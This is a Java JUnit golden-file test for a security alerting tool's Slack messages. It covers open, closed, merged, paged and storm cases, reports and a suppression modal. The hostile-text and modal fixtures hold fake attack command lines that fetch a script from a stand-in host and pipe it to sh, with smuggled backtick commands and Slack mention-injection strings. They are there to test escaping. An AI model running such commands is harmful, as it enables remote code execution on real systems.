package dev.takagari.alerting.slack;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.GsonBuilder;
import com.google.gson.JsonParser;
import com.slack.api.util.json.GsonFactory;
import dev.takagari.alerting.note.AlikeRule;
import dev.takagari.alerting.note.CaseBrief;
import dev.takagari.alerting.route.Route;
import dev.takagari.alerting.slack.SlackAnswer.Ok;
import dev.takagari.alerting.slack.SlackThread.Anew;
import dev.takagari.core.cases.Actor;
import dev.takagari.core.cases.CaseCounts;
import dev.takagari.core.cases.CaseKey;
import dev.takagari.core.cases.CaseState;
import dev.takagari.core.cases.Fact;
import dev.takagari.core.cases.FactGroup;
import dev.takagari.core.cases.SuppressionPreview;
import dev.takagari.core.cases.SuppressionRule;
import dev.takagari.core.cases.Tell;
import dev.takagari.core.cases.TimelineEntry;
import dev.takagari.core.cases.TimelineEntry.What;
import dev.takagari.core.detection.DetectionDraft;
import dev.takagari.core.detection.Detections;
import dev.takagari.core.detection.Severity;
import dev.takagari.core.event.Columns;
import dev.takagari.core.telling.TellPost;
import dev.takagari.embedded.SlackDouble;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.InstantSource;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/// The exact calls, as they reach Slack, which is strict about them here.
/// `-Dtakagari.regenerate=true` writes the files anew.
class SlackGoldenTest {
  private static final Path GOLDEN = Path.of("src/test/resources/golden/slack");
  private static final String CHANNEL = "C0SECURITY";

  private final SlackMessages messages = new SlackMessages(ZoneId.of("Asia/Tokyo"));
  private final SlackDouble slack = SlackDouble.start(InstantSource.system());
  private final SlackCalls calls =
      new SlackCalls(
          slack.botToken(),
          URI.create(slack.baseUrl() + "/api/"),
          InstantSource.system(),
          _ -> {},
          new SimpleMeterRegistry());
  private final SlackPost post = new SlackPost(calls);

  @BeforeEach
  void begin() {
    slack.addChannel(CHANNEL, "security");
  }

  @AfterEach
  void end() {
    calls.close();
    slack.close();
  }

  @Test
  void aCaseThatIsOpen() throws IOException {
    isGolden("open", new SlackScenes().known().brief(), SlackScenes.ROUTE);
  }

  @Test
  void aCaseOfWhichNothingIsKnownYet() throws IOException {
    isGolden("without-facts", new SlackScenes().brief(), Route.NONE);
  }

  @Test
  void aCaseThatSomebodyLooksAt() throws IOException {
    isGolden("acknowledged", new SlackScenes().known().acknowledged().brief(), SlackScenes.ROUTE);
  }

  @Test
  void aCaseThatIsClosed() throws IOException {
    isGolden("closed", new SlackScenes().known().closed().brief(), SlackScenes.ROUTE);
  }

  @Test
  void aCaseThatIsOpenAgain() throws IOException {
    isGolden("reopened", new SlackScenes().known().reopened().brief(), SlackScenes.ROUTE);
  }

  @Test
  void aCaseThatIsPartOfAnother() throws IOException {
    SlackScenes scene = new SlackScenes().known();
    scene.mergedInto = new CaseKey(2026, 480);
    isGolden("merged", scene.brief(), SlackScenes.ROUTE);
  }

  @Test
  void aCaseForWhichSomebodyIsCalled() throws IOException {
    SlackScenes scene = new SlackScenes().known();
    scene.severity = Severity.CRITICAL;
    scene.tell = Tell.PAGE;
    isGolden("page", scene.brief(), SlackScenes.CALLING);
  }

  @Test
  void aCaseOfTwoHundredHosts() throws IOException {
    SlackScenes scene = new SlackScenes();
    scene.counts = new CaseCounts(412, 9_214, 200);
    for (int i = 2; i <= 20; i++) {
      scene.detections.add(Detections.of("d-" + i, "1", "falcon:1", "h" + i, SlackScenes.TIME));
    }
    isGolden("two-hundred-hosts", scene.brief(), SlackScenes.ROUTE);
  }

  @Test
  void aStorm() throws IOException {
    SlackScenes scene = new SlackScenes();
    scene.severity = Severity.MEDIUM;
    scene.title = "Storm: 1,000 cases of proc_creation_win_office_spawn_ps";
    scene.counts = new CaseCounts(1_000, 1_000, 640);
    isGolden("storm", scene.brief(), SlackScenes.ROUTE);
  }

  @Test
  void aCaseWithHostileText() throws IOException {
    isGolden("hostile", hostile().brief(), SlackScenes.ROUTE);
  }

  static SlackScenes hostile() {
    SlackScenes scene = new SlackScenes();
    String bad =
        "<!channel> <@U0TANAKA1> <https://evil.example|login> *bold* _it_ ~no~ `code` :skull:"
            + " @here &lt; \u202egnp.exe ```";
    scene.title = bad;
    scene.rule = bad;
    scene.note = bad + "\n@channel";
    scene.assignee = "<!here>";
    scene.detections.set(
        0,
        DetectionDraft.like(scene.detections.getFirst())
            .title(bad)
            .fields(
                Detections.fields(
                    Columns.HOST_NAME, "ws`1` <!here>",
                    Columns.USER_NAME, "*root* <@U1>",
                    Columns.PROCESS_COMMAND_LINE,
                        "curl http://evil.example/a | sh ``` <!channel> `id` & echo 'x' > /tmp/_y_"))
            .detection());
    scene.facts.add(
        new FactGroup(
            FactGroup.Kind.BEFORE,
            FactGroup.State.PARTIAL,
            bad,
            SlackScenes.TIME,
            List.of(new Fact("parent process", bad, bad, SlackScenes.TIME))));
    return scene;
  }

  @Test
  void aCaseWithVeryLongEvidence() throws IOException {
    isGolden("very-long", longest().brief(), SlackScenes.ROUTE);
  }

  static SlackScenes longest() {
    SlackScenes scene = new SlackScenes().known();
    scene.detections.set(
        0,
        DetectionDraft.like(scene.detections.getFirst())
            .fields(
                Detections.fields(
                    Columns.HOST_NAME, "w".repeat(250),
                    Columns.USER_NAME, "<".repeat(250),
                    Columns.PROCESS_COMMAND_LINE, "powershell -enc " + "&😀".repeat(8_000)))
            .detection());
    for (FactGroup.Kind kind : FactGroup.Kind.values()) {
      List<Fact> facts = new ArrayList<>();
      for (int i = 0; i < 60; i++) {
        facts.add(
            SlackScenes.intel(
                "value " + i, "&".repeat(280) + " " + i, "source " + i, i, "malicious"));
      }
      scene.facts.removeIf(group -> group.kind() == kind);
      scene.facts.add(
          new FactGroup(kind, FactGroup.State.PARTIAL, "<".repeat(280), SlackScenes.TIME, facts));
    }
    return scene;
  }

  @Test
  void aCaseWhoseEarlierMessageWasDeleted() throws IOException {
    CaseBrief brief = new SlackScenes().known().brief();
    post.post(
        CHANNEL,
        null,
        messages.parent(brief, SlackScenes.ROUTE, List.of(), Anew.DELETED.note()),
        Map.of(SlackPost.MARKER, "A-2026-000482"));
    isGolden("begun-anew");
  }

  @Test
  void theCallOfWhoeverIsOnCallAfterACaseBecameWorse() throws IOException {
    SlackScenes scene = new SlackScenes();
    scene.severity = Severity.CRITICAL;
    post.post(
        CHANNEL,
        null,
        SlackMessages.page(scene.brief(), List.of("U0TANAKA1")),
        Map.of(SlackPost.MARKER, "A-2026-000482:page"));
    isGolden("page-later");
  }

  @Test
  void whatHappensToACase() throws IOException {
    Actor person = new Actor("a.tanaka", Actor.Origin.GITHUB);
    List<TimelineEntry> entries =
        List.of(
            new TimelineEntry(3, SlackScenes.TIME, person, What.ACKNOWLEDGED, ""),
            new TimelineEntry(
                4,
                SlackScenes.TIME,
                person,
                What.COMMENTED,
                "Asked *her* <@U1>,\nit was http://evil.example",
                "https://github.example/o/r/issues/4#issuecomment-7"),
            new TimelineEntry(
                5, SlackScenes.TIME, Actor.SYSTEM, What.UPDATED, "now blocked by the sensor"));
    for (TimelineEntry entry : entries) {
      post.post(
          CHANNEL, null, messages.entry(entry), Map.of(SlackPost.MARKER, "e" + entry.number()));
    }
    isGolden("entries");
  }

  @Test
  void aReport() throws IOException {
    TellPost report =
        new TellPost(
            "Week 47 of 2026",
            "## Cases\n\n- **12** opened, 9 closed\n- rule `a_b` was right in 4 of 5\n"
                + "- said: \\<\\!channel\\> \\*x\\*\n\n[All of it](https://takagari.example/r)",
            List.of(new TellPost.File("cases-2026-W47.csv", "text/csv", "key,title\n")));
    SlackAnswer<SlackReference> where =
        post.post(CHANNEL, null, SlackMessages.post(report), Map.of(SlackPost.MARKER, "weekly"));
    assertThat(post.upload(((Ok<SlackReference>) where).value(), report.files()))
        .isInstanceOf(Ok.class);
    isGolden("report");
  }

  @Test
  void theFormWithWhichACaseIsClosed() throws IOException {
    CaseBrief brief = new SlackScenes().known().brief();
    SuppressionRule rule =
        new SuppressionRule(
            "falcon",
            brief.found().ruleId(),
            new TreeMap<>(
                Map.of(
                    "host.name", "WS-0142",
                    "user.name", "CORP\\a.tanaka",
                    "process.command_line", "curl http://evil-cdn.example/a & `id`")));
    SuppressionPreview preview =
        new SuppressionPreview(
            120, 4, new TreeMap<>(Map.of("true-positive", 1L, "false-positive", 3L)), List.of());
    String view =
        GsonFactory.createSnakeCase()
            .toJson(
                SlackModal.of(
                    brief,
                    new SlackModal.About(
                        SlackScenes.KEY, 3, CHANNEL, AlikeRule.digest(Optional.of(rule))),
                    true,
                    SlackModal.preview(rule, preview, 90)));
    isGolden("modal", JsonParser.parseString(view));
  }

  /// The message is posted, and put in its own place, as what is known is posted below it.
  private void isGolden(String name, CaseBrief brief, Route route) throws IOException {
    boolean calls = brief.found().assessment().tell() == Tell.PAGE;
    List<String> called =
        calls && brief.found().state() == CaseState.OPEN ? SlackMessages.members(route) : List.of();
    SlackMessage message = messages.parent(brief, route, called, "");
    assertThat(message.fits()).isTrue();
    SlackAnswer<SlackReference> answer =
        post.post(CHANNEL, null, message, Map.of(SlackPost.CASE, brief.found().key().toString()));
    assertThat(answer).isInstanceOf(Ok.class);
    SlackReference where = ((Ok<SlackReference>) answer).value();
    assertThat(post.update(where, message)).isInstanceOf(Ok.class);
    messages
        .facts(brief)
        .ifPresent(
            facts -> {
              assertThat(facts.fits()).isTrue();
              assertThat(post.post(CHANNEL, where.ts(), facts, Map.of())).isInstanceOf(Ok.class);
            });
    isGolden(name);
  }

  private void isGolden(String name) throws IOException {
    List<Map<String, Object>> made = new ArrayList<>();
    for (SlackDouble.Call call : slack.calls()) {
      assertThat(call.outcome()).isEqualTo("ok");
      Map<String, Object> parameters = new TreeMap<>(call.parameters());
      for (String chosen : List.of("ts", "thread_ts", "files")) {
        parameters.replace(chosen, "…");
      }
      // what was edited reads as what was posted
      boolean isEdit = call.method().equals("chat.update");
      if (isEdit) {
        parameters.keySet().removeIf(key -> key.equals("attachments") || key.equals("text"));
      }
      made.add(new TreeMap<>(Map.of("method", call.method(), "parameters", parameters)));
    }
    isGolden(name, made);
  }

  private static void isGolden(String name, Object made) throws IOException {
    String text =
        new GsonBuilder().setPrettyPrinting().disableHtmlEscaping().create().toJson(made) + "\n";
    Path file = GOLDEN.resolve(name + ".json");
    if (Boolean.getBoolean("takagari.regenerate")) {
      Files.createDirectories(GOLDEN);
      Files.writeString(file, text);
    }
    assertThat(text).isEqualTo(Files.readString(file));
  }
}
